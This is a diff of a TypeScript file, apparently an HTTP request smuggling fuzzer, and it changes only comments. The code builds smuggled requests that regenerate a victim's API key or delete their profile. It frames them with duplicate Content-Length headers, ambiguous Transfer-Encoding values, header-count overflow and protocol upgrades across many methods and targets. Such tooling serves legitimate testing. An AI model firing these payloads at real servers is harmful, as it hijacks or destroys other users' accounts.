@@ -1,4 +1,4 @@
-/** What an attacker wants to stand before the next person's request: an unfinished head, a whole request, and junk. */
+/** The bytes that an attacker wants to place before the next person's request: an unfinished head, a whole request, and junk. */
 const payloads = [
   'POST /api/profile/regenerate-api-key HTTP/1.1\r\nX-I: ',
   'DELETE /api/profile HTTP/1.1\r\nHost: SMUGGLED\r\nContent-Length: 0\r\n\r\n',
@@ -7,7 +7,7 @@ const payloads = [
 
 const methods = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'PROPFIND'];
 
-/** Headers that Connection must not name. */
+/** Headers that Connection must not list. */
 export const connectionTokens = [
   'content-length',
   'Content-Length',
@@ -64,13 +64,13 @@ const byLength = (body: string): Framed[] => {
     [`Content_Length: ${length}`, body],
     [`Content-Length: ${length}\r\nContent-Length: ${length}`, body],
     [`Content-Length: 0\r\nContent-Length: ${length}`, body],
-    // Node leaves out what is beyond 2,000 lines.
+    // Node drops header lines after the first 2,000.
     [`${'a:\r\n'.repeat(2100)}Content-Length: ${length}`, body],
     [`${'a:\r\n'.repeat(100)}Content-Length: ${length}`, body],
   ];
 };
 
-/** Values of Transfer-Encoding that leave in doubt where a body ends. */
+/** Values of Transfer-Encoding with an ambiguous end of the body. */
 export const doubtfulCodings = [
   'identity',
   'gzip',
@@ -122,7 +122,7 @@ const byTime = (body: string): Framed[] => {
     [upgrade('websocket'), body],
     [upgrade('h2c'), body],
     [`${upgrade('h2c')}\r\n${length}`, body],
-    // More, and less, than was announced.
+    // More and fewer bytes than announced.
     [`Content-Length: ${body.length - 3}`, body],
     [`Content-Length: ${body.length + 30}`, body],
     ['', body],
@@ -130,17 +130,17 @@ const byTime = (body: string): Framed[] => {
   ];
 };
 
-/** Bytes of one connection. `HOST` and `SMUGGLED` are the caller's to replace. */
+/** The bytes of one connection. The caller replaces `HOST` and `SMUGGLED`. */
 export interface OddRequest {
   readonly bytes: string;
-  /** The client ends its side behind the last byte. */
+  /** Whether the client half-closes the connection after the last byte. */
   readonly half: boolean;
 }
 
-/** Of each payload every framing. */
+/** Every framing of each payload. */
 const framings = payloads.map((payload) => [byConnection, byLength, byCoding, byTime].flatMap((by) => by(payload)));
 
-/** Every method with every odd framing on every target, the payloads in turn; some as HTTP/1.0, some half closed behind the last byte. */
+/** Every method with every odd framing on every target, payloads in rotation. Some are HTTP/1.0, some half-close after the last byte. */
 export const oddRequests = (targets: readonly string[]): OddRequest[] =>
   targets.flatMap((target, place) =>
     methods.flatMap((method, turn) =>
